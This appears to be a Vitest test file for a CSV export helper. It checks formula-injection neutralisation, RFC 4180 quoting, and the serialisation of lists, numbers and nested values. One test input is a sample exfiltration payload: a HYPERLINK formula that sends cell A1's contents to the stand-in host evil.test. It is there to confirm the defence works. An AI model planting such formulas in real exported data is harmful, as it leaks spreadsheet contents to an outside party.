import { describe, expect, it } from 'vitest'
import { csvField, toCsv } from './csv.ts'

describe('csvField', () => {
  it.each([
    '=HYPERLINK("http://evil.test/?"&A1,"click")',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '\tcmd',
    '\rcmd',
  ])('never leaves a formula: %j', (text) => {
    const cell = csvField(text)
    expect(cell.replace(/^"/, '').startsWith("'")).toBe(true)
  })

  it('quotes per RFC 4180 after neutralising', () => {
    expect(csvField('=1,2')).toBe(`"'=1,2"`)
    expect(csvField('say "hi"')).toBe('"say ""hi"""')
    expect(csvField('plain')).toBe('plain')
  })

  it('keeps numbers, joins lists and writes nested values as JSON, formulas neutralised', () => {
    expect(csvField(-12.5)).toBe('-12.5')
    expect(csvField(['a', 'b'])).toBe('a|b')
    expect(csvField(['=x', 'b'])).toBe("'=x|b")
    expect(csvField([{ actor: 'a' }])).toBe('"[{""actor"":""a""}]"')
  })

  it('writes rows under a header', () => {
    const columns = [
      { name: 'id', path: ['id'] },
      { name: 'aboutActors', path: ['about', 'actors'] },
    ]
    expect(toCsv(columns, [{ id: 'x', about: { actors: ['a', 'b'] } }])).toBe(
      'id,aboutActors\r\nx,a|b\r\n',
    )
  })
})
